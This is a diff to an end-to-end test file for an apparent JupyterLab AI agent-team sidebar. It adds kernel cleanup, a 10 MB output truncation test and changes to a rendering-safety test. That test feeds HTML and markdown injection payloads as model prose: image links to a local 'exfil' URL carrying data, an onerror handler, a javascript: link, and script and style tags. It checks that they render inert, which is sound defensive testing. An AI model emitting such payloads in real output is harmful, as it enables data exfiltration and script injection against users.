@@ -26,6 +26,16 @@ const NINES: [number, number, number, number, number, number] = [
   9, 9, 9, 9, 9, 9
 ];
 
+// Galata's tracking of kernels proxies POST /api/kernels/<id>/interrupt and
+// fails on its empty 204 answer (sending the interrupt twice), so these tests
+// do not track kernels through it; each shuts its sessions down itself.
+test.use({ kernels: null });
+test.afterEach(async ({ page }) => {
+  await page.evaluate(() =>
+    window.jupyterapp.serviceManager.sessions.shutdownAll()
+  );
+});
+
 function settings(values: Record<string, unknown>) {
   return { mockSettings: { ...galata.DEFAULT_SETTINGS, [PLUGIN]: values } };
 }
@@ -310,6 +320,7 @@ test('model text renders inert: no remote image loads, no script, form or style 
   request,
   tmpPath
 }) => {
+  // Paragraphs apart, as models write them: an HTML line swallows the lines after it.
   const prose = [
     'Here is the chart: ![chart](http://127.0.0.1:8911/v1/exfil.png?q=answer-42)',
     '<img src="http://127.0.0.1:8911/v1/exfil-img.png" onerror="window.__agentTeamPwned = 1">',
@@ -317,9 +328,8 @@ test('model text renders inert: no remote image loads, no script, form or style 
     '[click me](javascript:window.__agentTeamPwned=2) and [pandas](https://pandas.pydata.org)',
     '<style>.jp-AgentTeam-Sidebar { display: none }',
     '<script>window.__agentTeamPwned = 3',
-    '',
     'The plot is ready.'
-  ].join('\n');
+  ].join('\n\n');
   await setScenario(request, {
     replies: {
       coder: [coderReply(prose, ["print('ok')"])],
@@ -358,4 +368,43 @@ test('model text renders inert: no remote image loads, no script, form or style 
       () => (window as { __agentTeamPwned?: number }).__agentTeamPwned
     )
   ).toBeUndefined();
+});
+
+test('a team cell printing 10 MB leaves JupyterLab responsive; the sidebar and the prompt get a bounded excerpt', async ({
+  page,
+  request,
+  tmpPath
+}) => {
+  await setScenario(request, {
+    replies: {
+      coder: [
+        coderReply('Printing a lot.', [
+          "print('head-marker ' + 'x' * 10_000_000 + ' tail-marker')"
+        ])
+      ],
+      critic: [criticReply(NINES, ['None.'])]
+    }
+  });
+  await openNotebook(page, tmpPath);
+  await ask(page, 'print ten megabytes');
+  await expect(summaries(page)).toHaveAttribute('data-reason', 'threshold', {
+    timeout: 90000
+  });
+  // The page still answers at once.
+  const before = Date.now();
+  await page.evaluate(() => document.title);
+  await page.locator(`${SIDEBAR} .jp-AgentTeam-TaskInput`).fill('still here');
+  console.log(`10 MB output: page answered in ${Date.now() - before} ms`);
+  const shown = await page
+    .locator(`${SIDEBAR} .jp-AgentTeam-CellOutput`)
+    .first()
+    .innerText();
+  expect(shown.length).toBeLessThan(2500);
+  expect(shown).toContain('head-marker');
+  expect(shown).toContain('tail-marker');
+  const critic = JSON.stringify((await modelCalls(request))[1].body);
+  expect(critic.length).toBeLessThan(20000);
+  expect(critic).toContain('head-marker');
+  expect(critic).toContain('tail-marker');
+  expect(critic).toMatch(/characters? (cut|omitted)/);
 });
